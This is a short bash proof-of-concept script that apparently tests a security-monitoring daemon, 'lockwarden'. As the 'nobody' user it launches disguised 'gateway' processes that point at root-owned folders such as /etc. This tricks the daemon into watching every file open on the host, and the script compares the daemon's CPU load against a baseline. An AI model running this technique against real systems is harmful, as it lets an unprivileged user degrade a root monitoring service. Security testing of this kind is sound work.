#!/bin/bash
# Attack: nobody's gateway-looking process names an entry script in a busy root-owned folder
# (/etc/openclaw.mjs, /usr/lib/x86_64-linux-gnu/openclaw.mjs: the script need not exist; only
# its folder is checked, root's is accepted). Discovery marks that folder FAN_OPEN|ON_CHILD:
# every open there by any process of the host (ld.so.cache and libc at every exec) becomes an
# event the root daemon reads and matches. Measured: the daemon's CPU time over N execs.
LW=${LW:-/work/main/build/check/src/lockwarden}
N=${N:-3000}
run() {
  T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T; echo '{}' > $T/lw.json
  if [ "$1" = attack ]; then
    for s in /etc/openclaw.mjs /usr/lib/x86_64-linux-gnu/openclaw.mjs; do
      setpriv --reuid=nobody --regid=nogroup --clear-groups env -i bash -c "exec -a $s bash -c 'sleep 60; :' gateway" &
    done
    sleep 0.3
  fi
  env -u OPENCLAW_STATE_DIR $LW run --config $T/lw.json --socket $T/sock --events - > $T/events 2>/dev/null &
  d=$!
  for i in $(seq 100); do grep -q monitor.ready $T/events 2>/dev/null && break; sleep 0.1; done
  t0=$(awk '{print $14+$15}' /proc/$d/stat)
  s=$(date +%s.%N)
  for i in $(seq $N); do /bin/true; done
  e=$(date +%s.%N)
  sleep 0.5
  t1=$(awk '{print $14+$15}' /proc/$d/stat)
  echo "$1: daemon cpu ticks over $N execs: $((t1-t0)) (clk_tck=$(getconf CLK_TCK)); loop wall $(echo "$e - $s" | bc) s; fds: $(ls /proc/$d/fd | wc -l)"
  grep -o '"discovered":[^]]*]' $T/events | head -1 | cut -c1-200
  kill $d; wait $d 2>/dev/null
  [ "$1" = attack ] && kill %1 %2 2>/dev/null
  rm -rf $T
}
run baseline
run attack
